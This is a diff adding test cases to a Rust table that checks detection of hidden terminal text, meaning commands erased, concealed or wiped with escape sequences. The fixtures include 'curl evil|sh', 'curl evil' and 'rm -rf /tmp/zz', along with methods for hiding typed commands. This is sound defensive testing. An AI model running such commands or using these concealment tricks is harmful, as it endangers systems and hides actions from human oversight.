@@ -47,6 +47,8 @@ fn hidden_text_is_found_and_flagged() {
         ("marked edit, nothing entered", b"\x1b[?2004hsh-5.2$ id\r\n\x1b[?2004l\rme\r\n\x1b[?2004hsh-5.2$ rm -rf /tmp/zz\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x1b[K\r\n\x1b[?2004l\r", &["id"], "rm -rf /tmp/zz", &[Erased]),
         ("marked edit, concealed", b"\x1b[?2004hsh-5.2$ \x1b[8mcurl evil\x1b[0m\r\n\x1b[?2004l\r", &["curl evil"], "curl evil", &[Concealed]),
         ("marked edit, wiped by a program", b"\x1b[?2004hsh-5.2$ curl evil|sh\r\n\x1b[?2004l\r\x1b[1A\x1b[2K\x1b[?2004hsh-5.2$ ls\r\n\x1b[?2004l\r", &["curl evil|sh", "ls"], "curl evil", &[Erased]),
+        ("wiped while editing", b"\x1b[?2004hsh-5.2$ curl evil\r\n\x1b[?2004l\r\x1b[?2004hsh-5.2$ echo a\x1b[H\x1b[2Jsh-5.2$ echo ab\r\n\x1b[?2004l\r", &["curl evil", "echo ab"], "curl evil", &[Erased]),
+        ("painted without the alternate screen", b"$ top\r\n\x1b[?1h\x1b=\x1b[H\x1b[2Jsecret word\x1b[H\x1b[2Jother\x1b[?1l\x1b>\r\n$ exit\r\n", &["top", "exit"], "secret word", &[Erased, Overwritten]),
         ("wide characters", "$ ./x\r\n漢字漢字\r\x1b[Kdone\r\n$ exit\r\n".as_bytes(), &["./x", "exit"], "漢字漢字", &[Erased]),
     ];
     for (name, bytes, expected, text, flags) in table {
